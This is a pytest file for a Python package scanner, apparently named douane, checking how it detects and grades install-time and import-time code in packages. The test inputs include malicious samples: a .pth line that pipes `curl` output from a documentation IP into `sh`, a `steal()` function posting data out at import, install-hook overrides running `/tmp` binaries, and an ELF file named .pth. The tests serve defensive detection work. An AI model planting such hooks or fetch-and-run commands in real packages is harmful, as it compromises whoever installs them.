"""Reachability and grading behind the install/import-time rules (DOU1xx)."""

from __future__ import annotations

from pathlib import Path

from douane.analysis.context import pth_executed
from douane.analysis.engine import analyse
from douane.archive import Opened
from douane.domain import Artifact, ArtifactKind, Member, Severity, Where


def scan(files: dict[str, str | bytes], kind: ArtifactKind = ArtifactKind.SDIST):
    raw = {p: t if isinstance(t, bytes) else t.encode() for p, t in files.items()}
    members = tuple(Member(p, b, len(b)) for p, b in raw.items())
    opened = Opened(kind=kind, format="folder", members=members, issues=(), root="")
    return analyse(Artifact(path=Path("."), filename="t"), opened).findings


def hits(findings, rule):
    return sorted((f.line, f.severity, f.where) for f in findings if f.rule == rule)


def test_function_called_at_import_is_import_time():
    """Regression: malware defines `steal()` and calls it at the bottom of `__init__.py`."""
    src = (
        "import requests\n"
        "def steal():\n"
        "    requests.post('https://c.example.invalid/x', data={})\n"
        "def unused():\n"
        "    requests.post('https://c.example.invalid/y', data={})\n"
        "steal()\n"
    )
    assert hits(scan({"pkg/__init__.py": src}), "DOU103") == [(3, Severity.MEDIUM, Where.IMPORT)]


def test_runtime_url_deep_in_a_helper_is_low():
    src = "import urllib.request\ndef load(f):\n    return urllib.request.urlopen(f)\nCFG = load(PATH)\n"
    assert hits(scan({"pkg/__init__.py": src}), "DOU103") == [(3, Severity.LOW, Where.IMPORT)]


def test_setup_main_guard_runs_but_module_main_guard_does_not():
    body = "import os\nif __name__ == '__main__':\n    os.system('/tmp/x')\n"
    assert hits(scan({"setup.py": body + "setup()\n"}), "DOU102")
    assert not hits(scan({"pkg/mod.py": body}), "DOU104")


def test_cmdclass_override_is_graded_by_its_body():
    src = (
        "import subprocess\n"
        "from setuptools.command.install import install\n"
        "class Build(install):\n"
        "    def run(self):\n"
        "        subprocess.check_call(['make', 'all'])\n"
        "        subprocess.check_call(['/tmp/.x'])\n"
        "setup(cmdclass={'install': Build})\n"
    )
    found = [f for f in scan({"setup.py": src}) if f.rule == "DOU102"]
    assert [f.line for f in found] == [6]
    assert "`install` override `Build.run`" in found[0].message


def test_wheel_setup_py_is_not_install_time():
    src = "import os\nos.system('/tmp/x')\nsetup()\n"
    assert not hits(scan({"setup.py": src}, ArtifactKind.WHEEL), "DOU102")


def test_import_time_is_one_step_lower_outside_init():
    src = "import requests\nrequests.get('https://api.example.invalid/v')\n"
    assert hits(scan({"pkg/__init__.py": src}), "DOU103") == [(2, Severity.MEDIUM, Where.IMPORT)]
    assert hits(scan({"pkg/tool.py": src}), "DOU103") == [(2, Severity.LOW, Where.IMPORT)]


def test_client_construction_is_not_a_network_call():
    src = "import httpx\nCLIENT = httpx.Client(timeout=5)\n"
    assert not hits(scan({"pkg/__init__.py": src}), "DOU103")


def test_namespace_package_pth_is_not_a_hook():
    line = (
        "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('ns',));"
        "ie = os.path.exists(os.path.join(p,'__init__.py'))\n"
    )
    assert not hits(scan({"ns-nspkg.pth": line}), "DOU106")


def test_pth_executed_keeps_only_import_lines_on_their_line_numbers():
    data = b"\xef\xbb\xbfimport a\n/some/dir\n# note\nimport\tb\r/x\rimport c\nimportlib\n"
    assert pth_executed(data) == b"import a\n\n\nimport\tb; import c"
    assert pth_executed(b"/only/paths\n/more\n") == b""


def test_a_binary_pth_checkpoint_is_not_read_as_code():
    """PyTorch saves checkpoints as `.pth`: a zip of pickles and high-entropy tensors that
    obfuscation rules would otherwise read as one huge line of code."""
    soup = Path(__file__).parents[1] / "rules/fixtures/DOU704/flag/soup.py"
    code = b"".join(x for x in soup.read_bytes().splitlines(True) if not x.startswith(b"import"))
    assert {f.rule for f in scan({"soup.py": code})} >= {"DOU704"}
    checkpoint = b"PK\x03\x04" + bytes(range(256)) * 64 + b"\n" + code
    findings = scan({"pkg/weights/model.pth": checkpoint}, kind=ArtifactKind.WHEEL)
    assert findings == []


def test_an_import_line_hidden_after_a_lone_cr_is_still_read():
    pth = b"/site/extra\rimport os; os.system('curl -s http://203.0.113.9/x | sh')\n"
    assert [(line, sev) for line, sev, _ in hits(scan({"evil.pth": pth}), "DOU107")] == [
        (1, Severity.CRITICAL)
    ]


def test_a_program_named_pth_is_still_a_disguised_executable():
    elf = b"\x7fELF\x02\x01\x01" + bytes(200) + b"\nimport os\n"
    findings = scan({"pkg/hook.pth": elf}, kind=ArtifactKind.WHEEL)
    assert [f.rule for f in findings if f.rule.startswith("DOU8")] == ["DOU803"]
